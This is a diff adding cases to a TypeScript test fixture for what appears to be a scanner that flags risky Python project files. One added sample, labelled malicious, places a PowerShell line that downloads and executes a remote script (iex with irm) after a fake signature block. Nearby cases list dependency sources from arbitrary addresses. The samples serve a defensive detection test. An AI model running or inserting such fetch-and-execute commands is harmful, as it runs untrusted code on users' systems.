@@ -477,6 +477,18 @@ export const PLACES: readonly Case[] = [
   suspicious('direct/requirements.txt', 'a package by its address', `helper @ ${NOBODY}/helper.tar.gz\n`),
   suspicious('setup.cfg', 'one for the build', `[options]\nsetup_requires = helper @ ${NOBODY}/helper.tar.gz\n`),
   suspicious('local/requirements.txt', 'a package of the folder', 'torch\n-e .\n'),
+  clean(
+    'Scripts/Activate.ps1',
+    'a script that its publisher signed',
+    '<#\n.Synopsis\nActivate an environment.\n#>\n$env:VIRTUAL_ENV = "x"\n\n# SIG # Begin signature block\n# MIIpiQYJKoZIhvcNAQcCoIIpejCCKXYCAQ\n' +
+      '# bAB0ADoAIABSAGUAbABlAGEAcwBlAF8AdgAzAC4AMQAxAC4AOQBfADIAMAAyADQA\n# SIG # End signature block\n',
+  ),
+  malicious(
+    'Scripts/Run.ps1',
+    'words behind a signature',
+    '<#\n#>\n# SIG # Begin signature block\n# MIIpiQYJKoZIhvcNAQcCoIIpejCCKXYCAQ\n# SIG # End signature block\n' +
+      `iex (irm ${NOBODY}/x.ps1)\n`,
+  ),
   suspicious('absolute/requirements.txt', 'a package of another folder', 'helper @ file:///opt/helper\n'),
   suspicious(
     'climbs/requirements.txt',
